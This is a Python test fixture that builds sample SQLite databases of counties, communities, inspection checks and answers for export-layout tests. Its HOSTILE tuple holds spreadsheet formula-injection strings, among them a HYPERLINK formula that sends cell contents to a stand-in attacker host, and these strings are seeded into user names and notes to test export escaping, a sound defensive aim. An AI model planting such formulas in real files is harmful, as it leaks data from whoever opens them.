"""Databases for the file checks: a program's standard, N counties (short or long names), passed
checks in the program's years and after, answers with hostile notes and user names.

    build_db(path, "chuxiong-2021", counties=30, per_county=12, long_names=True)

Used by tests/files/test_layout.py (small) and tests/visual/render_files.py (7, 30, 3,000).
"""

from __future__ import annotations

import random
from pathlib import Path

import sqlite_utils

from bot.catalog import catalog
from bot.store.db import connect, transaction
from tests.harness import sample_roster

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&C3,"详情")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
)
LONG_ADDRESS = (
    "河源市源城区新江街道办事处越王大道与兴源路交汇处东北侧绿色家园小区12栋一楼社区服务中心"
)
_SYL = "安宁平和兴华东西南北中新城江河山海云龙凤阳光明永长福寿泰康金银玉石清水沙田林川桥湖岭"


def _county_name(rng: random.Random, k: int, long: bool) -> str:
    base = "".join(rng.choice(_SYL) for _ in range(2))
    if long:
        return f"{base}彝族苗族自治县经济技术开发区第{k:02d}片区"
    return f"{base}{k}县"


def _community_name(county: str, k: int, long: bool) -> str:
    if long:
        return f"{county[:2]}测试第{k:02d}号社区名称较长"
    return f"{county[:2]}{k}社区"


def build_db(
    path: Path | str,
    program_id: str,
    counties: int = 7,
    per_county: int = 10,
    long_names: bool = False,
    seed: int = 5,
    answered_checks: int = 12,
) -> sqlite_utils.Database:
    """A database for `program_id`; `counties=0` loads the Heyuan sample roster instead."""
    rng = random.Random(seed)
    cat = catalog()
    program = cat.program(program_id)
    db = connect(Path(path))
    with transaction(db):
        if counties == 0:
            sample_roster(db)
        else:
            _roster(db, rng, counties, per_county, long_names, program.region)
        _users(db)
        _checks(db, rng, program_id, program.standard, answered_checks)
    return db


def _roster(
    db: sqlite_utils.Database, rng: random.Random, counties: int, per: int, long: bool, region: str
) -> None:
    cid = 0
    used: set[str] = set()
    for k in range(1, counties + 1):
        name = _county_name(rng, k, long)
        while name in used:
            name = _county_name(rng, k, long) + str(k)
        used.add(name)
        db.conn.execute(
            "INSERT INTO counties (id, name, region) VALUES (?, ?, ?)", (k, name, region)
        )
        db.conn.execute(
            "INSERT INTO streets (id, county_id, name) VALUES (?, ?, ?)", (k, k, "第一街道")
        )
        for j in range(1, per + 1):
            cid += 1
            planned = rng.choice((2021, 2022, None))
            db.conn.execute(
                "INSERT INTO communities (id, county_id, street_id, name, former_livable,"
                " former_green, planned_year, address) VALUES (?, ?, ?, ?, ?, 0, ?, ?)",
                (
                    cid,
                    k,
                    k,
                    f"{_community_name(name, j, long)}{cid}",
                    rng.random() < 0.8,
                    planned,
                    LONG_ADDRESS if long else None,
                ),
            )


def _users(db: sqlite_utils.Database) -> None:
    rows = [(31 + k, name, None) for k, name in enumerate(HOSTILE)]
    rows.append((41, "陈一", "chen1"))
    db.conn.executemany("INSERT INTO users (id, name, username) VALUES (?, ?, ?)", rows)


def _checks(
    db: sqlite_utils.Database, rng: random.Random, program_id: str, standard: str, answered: int
) -> None:
    """Passed checks in 2021, 2022 and 2026 for ~45% of communities; answers on a few."""
    cat = catalog()
    std = cat.standard(standard)
    qs = [(q.id, q.max_points) for q in std.questions]
    ids = [r[0] for r in db.conn.execute("SELECT id FROM communities ORDER BY id")]
    stamps = ("2021-09-01T02:00:00Z", "2022-08-20T02:00:00Z", "2026-03-01T02:00:00Z")
    for n, cid in enumerate(ids):
        r = rng.random()
        if r > 0.55 and n >= answered:
            continue
        passed = int(r < 0.45)
        at = rng.choice(stamps)
        aid = db.conn.execute(
            "INSERT INTO assessments (community_id, program_id, standard_id, standard_hash,"
            " status, created_at, updated_at, submitted_at, submitted_by, answered, total,"
            " gap_count, passed) VALUES (?, ?, ?, ?, 'submitted', ?, ?, ?, 41, ?, ?, 0, ?)",
            (cid, program_id, standard, cat.hashes[standard], at, at, at, len(qs), len(qs), passed),
        ).lastrowid
        if passed:  # counted as done from that day, by the program's own kind of verdict
            db.conn.execute(
                "INSERT INTO verdicts (community_id, assessment_id, standard_id, kind, at)"
                " VALUES (?, ?, ?, ?, ?)",
                (cid, aid, standard, cat.programs[program_id].chain.done_by, at),
            )
        if n < answered:
            _answers(db, rng, int(aid or 0), qs, at)


def _answers(
    db: sqlite_utils.Database,
    rng: random.Random,
    aid: int,
    qs: list[tuple[str, float | None]],
    at: str,
) -> None:
    """Every item answered (points on a points standard), a hostile note on every third."""
    for k, (qid, most) in enumerate(qs):
        note = HOSTILE[(k // 3) % len(HOSTILE)] if k % 3 == 0 else None
        if qid.startswith("V"):  # a veto: absent
            status, points = "met", None
        elif most is None:
            status, points = rng.choice(("met", "met", "partial", "not_met")), None
        else:  # full or no points: always among an item's allowed scores
            status = rng.choice(("met", "met", "not_met"))
            points = most if status == "met" else 0.0
        db.conn.execute(
            "INSERT INTO answers (assessment_id, question_id, status, points, note, user_id,"
            " updated_at) VALUES (?, ?, ?, ?, ?, ?, ?)",
            (aid, qid, status, points, note, 31 + k % len(HOSTILE), at),
        )
